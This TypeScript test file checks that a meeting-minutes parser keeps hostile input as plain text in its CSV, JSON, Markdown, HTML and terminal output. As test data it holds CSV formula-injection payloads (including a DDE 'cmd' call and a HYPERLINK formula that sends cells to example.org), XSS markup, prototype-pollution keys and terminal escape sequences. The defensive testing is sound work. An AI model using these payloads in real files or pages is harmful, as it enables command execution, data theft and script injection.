/** Hostile words in a document, from its text to every output. */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'parse5';
import { describe, expect, it, vi } from 'vitest';
import { type MinutesDocument, parseMinutes, TABLE_NAMES, writeMinutes } from '../../src/index.ts';
import { runInProcess, temporaryFolder } from '../cli/run-in-process.ts';

// The first run loads all of the program, and a machine may be busy.
vi.setConfig({ testTimeout: 60_000 });

/** Minutes that say something at every place that an output has a cell for. */
const minutesSaying = (words: string): string => `Agenda item

${words}

Venue: ${words}

Contact: ${words}

Cabinet Portfolio: ${words}

Minutes:

Councillor ${words} (${words}) reported that ${words} would cost £5, ${words}, from 4 June 2019.

RESOLVED: (a) ${words}; and

(b) that ${words} be noted.

Action: ${words} by 5 June 2019.

Supporting documents:

${words} pdf icon PDF 96 KB
`;

/** Cells of separated values. */
function cellsOf(text: string): string[] {
  return [...text.matchAll(/"((?:[^"]|"")*)"|([^,\r\n]+)/g)].map((match) => (match[1] ?? match[2] ?? '').replaceAll('""', '"'));
}

const FORMULAS = [
  ['a formula', '=1+1'],
  ['a command of old', '=cmd|"/c calc"!A1'],
  ['a link that carries cells away', '=HYPERLINK("http://example.org/?"&A1,"x")'],
  ['by a sign', '@SUM(1)'],
  ['by plus', '+1+cmd'],
  ['by minus', '-1+cmd'],
  ['in wide letters', '＝1+1'],
  ['behind a tab', '\t=1+1'],
  ['behind a quote', '"=1+1'],
  ['behind a comma', ',=1+1'],
] as const;

describe('formulas in a document', () => {
  it.each(FORMULAS)('are text in a spreadsheet: %s', async (_why, words) => {
    const document = await parseMinutes(minutesSaying(words));
    for (const table of TABLE_NAMES)
      for (const delimiter of [',', ';']) {
        const text = await writeMinutes(document, 'csv', { table, delimiter });
        const cells = delimiter === ',' ? cellsOf(text) : cellsOf(text.replaceAll(',', ' ').replaceAll(';', ','));
        const dangerous = cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?[\d.]+$/.test(cell));
        expect({ table, dangerous }).toEqual({ table, dangerous: [] });
      }
  });
});

/** Names that every object answers to. */
const KNOWN_TO_ALL = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];

describe('words that every object knows', () => {
  it.each(KNOWN_TO_ALL)('are words like others: %s', async (word) => {
    const own = Object.keys(Object.prototype).length;
    const text = `${minutesSaying(word)}\n\n${word}: value\n\n£5 per ${word}\n\n${word} of ${word}, the ${word} trial\n`;
    const document = await parseMinutes(text, { includeText: true });
    for (const format of ['json', 'ndjson', 'markdown'] as const)
      expect((await writeMinutes(document, format)).replaceAll('\\', '')).toContain(word);
    for (const table of TABLE_NAMES) await writeMinutes(document, 'csv', { table });
    expect(Object.keys(Object.prototype).length).toBe(own);
    expect(({} as Record<string, unknown>).value).toBeUndefined();
  });

  it.each(KNOWN_TO_ALL.filter((word) => word !== '__proto__'))('can be the label of a field: %s', async (word) => {
    const document = await parseMinutes(`Agenda item\n\nDrains\n\n${word}: value\n\nMinutes:\n\nThe drains were looked at.\n`);
    const [item] = JSON.parse(await writeMinutes(document, 'json')).items;
    const said = Object.hasOwn(item.fields, word)
      ? item.fields[word]
      : document.items.flatMap(({ blocks }) => blocks.map((block) => block.text)).join(' ');
    expect(said).toContain('value');
  });

  it('stay in the text where no object can have them for a key: __proto__', async () => {
    const document = await parseMinutes('Agenda item\n\nDrains\n\n__proto__: value\n\nMinutes:\n\nThe drains were looked at.\n');
    expect(JSON.stringify(document)).toContain('__proto__: value');
  });
});

const MARKUP = [
  ['a script', '<script>alert(1)</script>'],
  ['an image that runs a script', '<img src=x onerror=alert(1)>'],
  ['an end of what stands around it', '</td></table></main><script>alert(1)</script>'],
  ['an attribute', '" onmouseover="alert(1)'],
  ['an entity', '&lt;script&gt;'],
  ['a comment', '<!-- x -->'],
  ['a style', '<style>*{display:none}</style>'],
] as const;

/** Element names of a page. */
function elementsOf(html: string): string[] {
  const names: string[] = [];
  const waiting: { nodeName: string; attrs?: { name: string }[]; childNodes?: unknown[] }[] = [parse(html)];
  for (let node = waiting.pop(); node; node = waiting.pop()) {
    names.push(node.nodeName, ...(node.attrs ?? []).map(({ name }) => `@${name}`));
    waiting.push(...((node.childNodes ?? []) as typeof waiting));
  }
  return [...new Set(names)].filter((name) => /script|img|^@on|#comment|iframe/.test(name));
}

describe('markup in a document', () => {
  it.each(MARKUP)('is text in the summary page: %s', async (_why, words) => {
    const folder = temporaryFolder();
    mkdirSync(join(folder, 'in'));
    writeFileSync(join(folder, 'in', `${words.replaceAll('/', '_')}.txt`), minutesSaying(words));
    writeFileSync(join(folder, 'in', 'page.html'), `<p>Minutes</p><p>${words.replaceAll('<', '&lt;')} 1. RESOLVED</p>`);
    writeFileSync(join(folder, 'in', 'empty.txt'), '');
    await runInProcess(['convert', join(folder, 'in'), '-o', join(folder, 'out'), '-j', '0', '--to', 'json,markdown']);
    const page = readFileSync(join(folder, 'out/summary.html'), 'utf8');
    expect(elementsOf(page)).toEqual([]);
    expect(page).toContain("default-src 'none'");
  });

  it.each(MARKUP)('is text in Markdown: %s', async (_why, words) => {
    const document = await parseMinutes(minutesSaying(words));
    const text = await writeMinutes(document, 'markdown');
    expect(text).not.toMatch(/(?<!\\)<(?:script|img|style|\/td|!--)/);
  });
});

describe('what would move a terminal', () => {
  it.each([
    ['a colour', '\u001b[31mred'],
    ['a title of the window', '\u001b]0;owned\u0007'],
    ['its C1 form', '\u009b2J'],
    ['a line over the last', 'good\rbad'],
    ['a turn of direction', 'a\u202eb'],
  ])('reaches none: %s', async (_why, words) => {
    for (const format of ['json', 'ndjson', 'markdown'])
      for (const more of [[], ['--include-text']]) {
        const { stdout, stderr } = await runInProcess(['parse', '-', '--format', format, ...more], {
          stdin: minutesSaying(words),
          terminal: true,
        });
        // biome-ignore lint/suspicious/noControlCharactersInRegex: these must not be there
        expect(stdout + stderr.replaceAll(/\u001b\[\d{1,2}m/g, '')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
      }
  });
});

describe('text that means something to the program itself', () => {
  it.each([
    ['a pattern of replacement', "$& $1 $$ $' $`"],
    ['a format', '%s %d %o %j'],
    ['a template', `$${'{'}process.exit(1)}`],
    ['an escape', '\\u0000 \\x1b \\n'],
    ['a pattern', '(a+)+$ [z-a] *'],
  ])('is text: %s', async (_why, words) => {
    const document: MinutesDocument = await parseMinutes(minutesSaying(words), { includeText: true });
    expect(document.source.text).toContain(words);
    expect(JSON.parse(await writeMinutes(document, 'json')).source.text).toContain(words);
  });
});
